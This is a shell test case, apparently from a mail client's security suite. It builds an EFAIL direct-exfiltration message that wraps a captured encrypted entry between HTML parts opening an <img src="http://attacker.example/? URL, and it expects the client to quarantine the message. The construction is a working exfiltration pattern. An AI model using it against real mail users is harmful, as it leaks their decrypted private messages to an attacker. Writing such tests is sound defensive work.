# EFAIL direct exfiltration: the attacker captured alice's genuine
# encrypted entry and sends it back inside a multipart/mixed from "alice":
# an HTML part opening <img src="http://attacker.example/? , then the
# captured multipart/encrypted, then an HTML part with the closing quote.
# A mail client that decrypts the middle part and renders the three as
# one HTML document sends the plaintext to the attacker.
#
# Expected: quarantined as partial (an encrypted part below the root is
# never decrypted); alice's words show nowhere.
case_class=efail
case_title='direct exfiltration: <img src=" + captured ciphertext + ">'
case_expect=quarantine:partial
case_msgid=efail.exfil1@client.example
case_build() {
	make_mime_entry "Private" "$(secret_of alice) private words" >in &&
	adv_se alice in captured.asc &&
	adv_text_part '<html><body><img src="http://attacker.example/?' 'text/html' >p1 &&
	adv_enc_entity captured.asc enc-b >p2 &&
	adv_text_part '"></body></html>' 'text/html' >p3 &&
	adv_mixed mix-b p1 p2 p3 >root &&
	adv_msg "alice@$D" "Exfil" "$case_msgid" root
}
